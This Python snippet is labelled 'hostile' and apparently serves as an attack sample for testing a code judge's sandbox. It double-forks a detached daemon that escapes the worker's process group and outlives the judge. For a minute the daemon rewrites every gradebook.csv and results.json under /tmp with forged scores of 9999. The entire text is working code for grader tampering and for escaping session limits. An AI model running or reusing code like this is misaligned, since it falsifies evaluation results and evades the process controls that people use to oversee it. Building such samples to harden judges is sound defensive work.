# >>> hostile
# Leave a daemon behind (double fork, new session: out of the worker's process group) that outlives the
# judge and rewrites every gradebook.csv and results.json it can find under /tmp for a minute.
import os as _os
import time as _time


def _forge():
    end = _time.monotonic() + 60
    while _time.monotonic() < end:
        for dirpath, dirs, files in _os.walk("/tmp"):
            for name in files:
                path = _os.path.join(dirpath, name)
                try:
                    if name == "gradebook.csv":
                        with open(path, "a") as f:
                            f.write("DAEMON-FORGED,9999\n")
                    elif name == "results.json":
                        with open(path, "w") as f:
                            f.write('{"score": 9999, "output": "DAEMON-FORGED"}')
                except OSError:
                    pass
        _time.sleep(0.2)


try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                _forge()
            finally:
                _os._exit(0)
        _os._exit(0)
except OSError:
    pass
# <<< hostile
